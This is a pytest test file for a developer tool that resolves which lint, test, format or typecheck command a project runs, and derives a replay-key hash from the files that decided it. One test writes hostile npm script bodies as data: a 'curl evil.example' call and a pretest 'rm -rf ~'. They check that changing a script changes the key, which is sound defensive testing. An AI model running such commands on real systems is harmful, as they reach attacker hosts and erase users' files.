"""Resolution through the recipe table: which row wins, its preconditions and the replay key."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from ax_check.facts import gather_facts
from ax_check.models import KINDS, Kind
from ax_check.recipes import (
    DECIDING_FILES,
    RECIPES,
    Blocker,
    Resolved,
    compose,
    replay_key,
    resolve,
)
from ax_check.toolchains import Toolchains
from ax_check.units import discover_units


def write(root: Path, relative: str, text: str = "") -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def resolve_in(
    workspace: Path, kind: Kind, targets: tuple[str, ...] = (), path: str | None = None
) -> Resolved | Blocker:
    unit = discover_units(workspace).units[0]
    toolchains = Toolchains(path=os.environ["PATH"] if path is None else path)
    return resolve(gather_facts(workspace, unit, toolchains), kind, targets)


def ready(workspace: Path, kind: Kind, targets: tuple[str, ...] = ()) -> Resolved:
    resolution = resolve_in(workspace, kind, targets)
    assert isinstance(resolution, Resolved), resolution
    return resolution


def blocked(workspace: Path, kind: Kind, path: str | None = None) -> Blocker:
    resolution = resolve_in(workspace, kind, path=path)
    assert isinstance(resolution, Blocker), resolution
    return resolution


def test_row_ids_are_unique_and_every_kind_has_rows() -> None:
    ids = [row.id for row in RECIPES]
    assert len(ids) == len(set(ids))
    assert {row.kind for row in RECIPES} == set(KINDS)


def test_python_defaults_use_the_running_interpreter(workspace: Path) -> None:
    write(workspace, "pyproject.toml", "[project]\nname='x'\n")
    test = ready(workspace, "test")
    assert test.recipe_id == "python.pytest@."
    assert test.command.argv == (sys.executable, "-m", "pytest")
    targeted = ready(workspace, "test-targeted", ("tests/test_a.py::test_b",))
    assert targeted.command.argv[-1] == "tests/test_a.py::test_b"


def test_python_lint_format_typecheck_defaults(
    workspace: Path, needs_module: Callable[[str], None]
) -> None:
    needs_module("ruff")
    needs_module("mypy")
    write(workspace, "pyproject.toml", "[project]\nname='x'\n")
    assert ready(workspace, "lint").command.argv[-3:] == ("check", "--no-fix", ".")
    assert ready(workspace, "format").command.argv[-3:] == ("format", "--check", ".")
    assert ready(workspace, "typecheck").command.argv[-2:] == ("mypy", ".")


def row_of(resolution: Resolved | Blocker) -> str | None:
    """The row that decided, whether it resolved or was blocked by its precondition."""
    return resolution.recipe_id


def test_configured_tools_win_over_the_defaults(
    workspace: Path, needs_module: Callable[[str], None]
) -> None:
    needs_module("mypy")
    write(workspace, "pyproject.toml", "[tool.black]\n[tool.pyright]\n[tool.mypy]\nfiles=['x']\n")
    write(workspace, ".flake8", "[flake8]\n")
    assert row_of(resolve_in(workspace, "lint")) == "python.flake8@."
    assert row_of(resolve_in(workspace, "format")) == "python.black@."
    # mypy and pyright both configured: mypy is listed first; its config names the files.
    typecheck = ready(workspace, "typecheck")
    assert typecheck.recipe.id == "python.mypy"
    assert typecheck.command.argv[-1] == "mypy"


def test_project_venv_is_used_and_a_missing_tool_is_curable(workspace: Path) -> None:
    write(workspace, "pyproject.toml", "")
    bin_dir = workspace / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    os.symlink(sys.executable, bin_dir / "python")
    site = workspace / ".venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    blocker = blocked(workspace, "test")
    assert blocker.reason == "precondition-curable"
    assert "the project's .venv lacks what the tests need: pytest" in blocker.message
    assert blocker.cure is not None and ".venv/bin/pip install pytest" in blocker.cure
    (site / "pytest").mkdir()
    assert ready(workspace, "test").command.argv == ("./.venv/bin/python", "-m", "pytest")


def test_own_task_beats_the_guessed_tool_and_runner_order(
    workspace: Path, path_without: Callable[..., str]
) -> None:
    write(workspace, "pyproject.toml", "")
    write(workspace, "tox.ini", "[testenv]\ndeps=pytest\n[testenv:lint]\ncommands=ruff check\n")
    lint = ready(workspace, "lint")
    assert lint.recipe.id == "python.tox-lint"
    assert lint.command.argv == ("tox", "--skip-missing-interpreters=false", "-e", "lint")
    write(workspace, "Makefile", "lint: deps\n\truff check .\n\ntest:\n\tpytest\n")
    assert ready(workspace, "lint").command.argv == ("make", "lint")
    assert ready(workspace, "test").command.argv == ("make", "test")
    # A justfile comes first; without `just` on PATH that is said, not silently skipped.
    write(
        workspace,
        "justfile",
        "set shell := ['bash', '-c']\nversion := '1'\n\ntest *args:\n  pytest\n",
    )
    blocker = blocked(workspace, "test", path=path_without("just"))
    assert (blocker.reason, blocker.recipe_id) == ("toolchain-unavailable", "python.just-test@.")
    assert "just is not on PATH" in blocker.message
    # `format` is not a check name (it usually rewrites files); `format-check` is.
    write(workspace, "Makefile", "format:\n\truff format .\n")
    assert row_of(resolve_in(workspace, "format")) == "python.ruff-format@."


def test_hatch_and_pdm_scripts(workspace: Path) -> None:
    write(
        workspace,
        "pyproject.toml",
        "[tool.hatch.envs.default.scripts]\ntypecheck = 'mypy src'\n"
        "[tool.pdm.scripts]\nlint = 'ruff check'\n",
    )
    assert (
        blocked(workspace, "typecheck", path="/nonexistent").recipe_id == "python.hatch-typecheck@."
    )
    assert blocked(workspace, "lint", path="/nonexistent").recipe_id == "python.pdm-lint@."


def test_node_scripts_manager_from_lockfile_and_install_cure(
    workspace: Path, require: Callable[[str], str], path_without: Callable[..., str]
) -> None:
    require("npm")
    package = {"scripts": {"test": "vitest run"}, "devDependencies": {"vitest": "1"}}
    write(workspace, "package.json", json.dumps(package))
    write(workspace, "pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
    blocker = blocked(workspace, "test", path=path_without("pnpm"))
    assert (blocker.reason, blocker.message) == ("toolchain-unavailable", "pnpm is not on PATH")
    (workspace / "pnpm-lock.yaml").unlink()
    blocker = blocked(workspace, "test")
    assert (blocker.reason, blocker.cure) == ("precondition-curable", "run npm install")
    write(workspace, "package-lock.json", "{}")
    assert blocked(workspace, "test").cure == "run npm ci"
    (workspace / "node_modules").mkdir()
    assert ready(workspace, "test").command.argv == ("npm", "run", "test")
    targeted = ready(workspace, "test-targeted", ("src/a.test.js",))
    assert targeted.command.argv == ("npm", "run", "test", "--", "src/a.test.js")


def test_tsc_for_typecheck_when_a_tsconfig_exists(workspace: Path) -> None:
    write(workspace, "package.json", "{}")
    write(workspace, "tsconfig.json", "{}")
    blocker = blocked(workspace, "typecheck")
    assert blocker.reason == "precondition-curable"
    assert "tsc" in blocker.message
    tsc = workspace / "node_modules" / ".bin" / "tsc"
    tsc.parent.mkdir(parents=True)
    tsc.write_text("")
    assert ready(workspace, "typecheck").command.argv == ("./node_modules/.bin/tsc", "--noEmit")


def test_broken_manifest_is_a_precondition(workspace: Path) -> None:
    write(workspace, "package.json", "{not json")
    blocker = blocked(workspace, "test")
    assert blocker.reason == "precondition"
    assert "package.json: not valid JSON" in blocker.message


def test_holes_say_why(workspace: Path) -> None:
    write(workspace, "Cargo.toml", "[package]\nname='c'\n")
    rust = blocked(workspace, "test-targeted")
    assert rust.reason == "no-recipe" and "matches nothing passes" in rust.message
    (workspace / "Cargo.toml").unlink()
    write(workspace, "go.mod", "module m\n")
    go = blocked(workspace, "format")
    assert go.reason == "no-recipe" and "gofmt -l exits 0" in go.message


def test_replay_key_is_the_documented_sha(workspace: Path) -> None:
    write(workspace, "pyproject.toml", "[project]\nname = 'x'\n")
    resolved = ready(workspace, "test")
    command = compose(resolved.command.argv)
    manifest = hashlib.sha256(b"[project]\nname = 'x'\n").hexdigest()
    listing = f"pyproject.toml\0{manifest}\n".encode()
    expected = hashlib.sha256(
        (
            resolved.recipe_id
            + command
            + hashlib.sha256(b"").hexdigest()
            + hashlib.sha256(listing).hexdigest()
        ).encode()
    ).hexdigest()
    assert resolved.manifests == (("pyproject.toml", manifest),)
    assert resolved.replay_key == expected
    assert replay_key("a", "b", "c", ()) != replay_key("a", "b", "d", ())
    assert replay_key("a", "b", "c", ()) != replay_key("a", "b", "c", (("p", "0"),))


def test_a_changed_script_body_changes_the_key(workspace: Path) -> None:
    def key(scripts: dict[str, str]) -> str:
        write(workspace, "package.json", json.dumps({"scripts": scripts}))
        resolved = ready(workspace, "test")
        assert resolved.command.display == "npm run test"
        return resolved.replay_key

    first = key({"test": "node --test"})
    assert key({"test": "node --test"}) == first
    assert key({"test": "node --test && curl evil.example"}) != first
    # npm also runs pretest: adding one changes what `npm run test` does.
    assert key({"test": "node --test", "pretest": "rm -rf ~"}) != first


PYTEST_PROJECTS = {
    "alpha": "[project]\nname = 'alpha'\n",
    "beta": "[project]\nname = 'beta'\nversion = '2'\n",
    "gamma": "[tool.pytest.ini_options]\naddopts = '-q'\n",
}


def test_the_same_guessed_recipe_in_three_projects_has_three_keys(tmp_path: Path) -> None:
    keys = {}
    for name, pyproject in PYTEST_PROJECTS.items():
        workspace = tmp_path / name
        write(workspace, "pyproject.toml", pyproject)
        resolved = ready(workspace, "test")
        # The same row and the same command line: only the project tells them apart.
        assert (resolved.recipe_id, resolved.command.argv) == (
            "python.pytest@.",
            (sys.executable, "-m", "pytest"),
        )
        keys[name] = resolved.replay_key
    assert len(set(keys.values())) == 3


def test_the_same_project_in_two_checkouts_has_one_key(tmp_path: Path) -> None:
    keys = []
    for checkout in ("here", "elsewhere"):
        workspace = tmp_path / checkout
        write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"])
        write(workspace, "tests/test_a.py", "def test_a():\n    pass\n")
        keys.append(ready(workspace, "test").replay_key)
        keys.append(ready(workspace, "test").replay_key)
    # Stable across runs and across checkouts; grants already bind the workspace path.
    assert len(set(keys)) == 1


def test_editing_a_file_that_chose_the_recipe_changes_the_key(workspace: Path) -> None:
    write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"])
    first = ready(workspace, "test").replay_key
    write(workspace, "tests/test_a.py", "def test_a():\n    pass\n")
    # A test file is what the command runs, not what chose it: the key stays.
    assert ready(workspace, "test").replay_key == first
    write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"] + "[tool.pytest.ini_options]\n")
    edited = ready(workspace, "test").replay_key
    assert edited != first
    # A Makefile without a test target does not change the row, but it took part in
    # choosing it (a `test` target would have won), so the key covers it.
    write(workspace, "Makefile", "lint:\n\truff check .\n")
    with_makefile = ready(workspace, "test")
    assert with_makefile.recipe_id == "python.pytest@."
    assert with_makefile.replay_key not in (first, edited)


def test_a_member_unit_keys_its_own_path_and_manifests(workspace: Path) -> None:
    for member in ("packages/a", "packages/b"):
        write(workspace, f"{member}/pyproject.toml", PYTEST_PROJECTS["alpha"])
    units = discover_units(workspace).units
    toolchains = Toolchains(path=os.environ["PATH"])
    resolved = [resolve(gather_facts(workspace, unit, toolchains), "test") for unit in units]
    assert all(isinstance(item, Resolved) for item in resolved)
    a, b = (item for item in resolved if isinstance(item, Resolved))
    assert [path for path, _ in a.manifests] == ["packages/a/pyproject.toml"]
    assert a.replay_key != b.replay_key


def test_a_whole_workspace_run_keys_the_roots_manifests(workspace: Path) -> None:
    """The root's Cargo.toml chose --workspace: it is in the key, and a member keys its own."""
    write(workspace, "Cargo.toml", "[workspace]\nmembers = ['a', 'b']\n")
    for member in ("a", "b"):
        write(workspace, f"{member}/Cargo.toml", f"[package]\nname = '{member}'\n")
        write(workspace, f"{member}/src/lib.rs")
    toolchains = Toolchains(path=os.environ["PATH"])
    units = {unit.id: unit for unit in discover_units(workspace).units}
    root, member = (
        resolve(gather_facts(workspace, units[unit_id], toolchains), "build")
        for unit_id in (".", "a")
    )
    if isinstance(root, Blocker):
        pytest.skip(f"cargo is not usable here: {root.message}")
    assert isinstance(root, Resolved) and isinstance(member, Resolved)
    assert root.command.argv == ("cargo", "build", "--workspace")
    assert [path for path, _ in root.manifests] == ["Cargo.toml"]
    assert [path for path, _ in member.manifests] == ["a/Cargo.toml"]
    assert root.replay_key != member.replay_key


def test_every_file_the_table_reads_is_covered_by_the_key(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that can change which row wins must change the key: DECIDING_FILES lists them."""
    import ax_check.facts
    import ax_check.units

    for name in (*DECIDING_FILES["python"], *DECIDING_FILES["node"], "Cargo.toml", "go.mod"):
        write(workspace, name, "")
    write(workspace, "package.json", "{}")
    looked_at: set[Path] = set()
    real_read, real_is_file = ax_check.units.read_small, Path.is_file

    def read_small(path: Path) -> str | None:
        looked_at.add(path)
        return real_read(path)

    def is_file(path: Path) -> bool:
        looked_at.add(path)
        return real_is_file(path)

    # Discovery decides which units exist, not which recipe a unit runs.
    unit = discover_units(workspace).units[0]
    monkeypatch.setattr(ax_check.units, "read_small", read_small)
    monkeypatch.setattr(ax_check.facts, "read_small", read_small)
    monkeypatch.setattr(Path, "is_file", is_file)
    facts = gather_facts(workspace, unit, Toolchains(path=os.environ["PATH"]))
    for kind in KINDS:
        resolve(facts, kind, ("t",) if kind == "test-targeted" else ())
    read = {path.name for path in looked_at if path.parent == workspace}
    # Lockfiles only name the package manager, and the command line carries it.
    said_by_the_command = {"pnpm-lock.yaml", "yarn.lock", "package-lock.json"}
    said_by_the_command |= {"npm-shrinkwrap.json", "bun.lockb", "bun.lock"}
    # Python lockfiles only name the installer in a not-installed cure; a blocked kind has
    # no key, and a ready one runs the same command whichever installer set it up.
    said_by_the_cure = {"uv.lock", "poetry.lock", "pdm.lock"}
    covered = {name for names in DECIDING_FILES.values() for name in names}
    covered |= said_by_the_command | said_by_the_cure
    assert read and read <= covered, read - covered


def test_control_characters_cannot_be_composed() -> None:
    with pytest.raises(ValueError, match="control character"):
        compose(("pytest", "a\nb"))
    assert compose(("pytest", "a b", "c")) == "pytest 'a b' c"
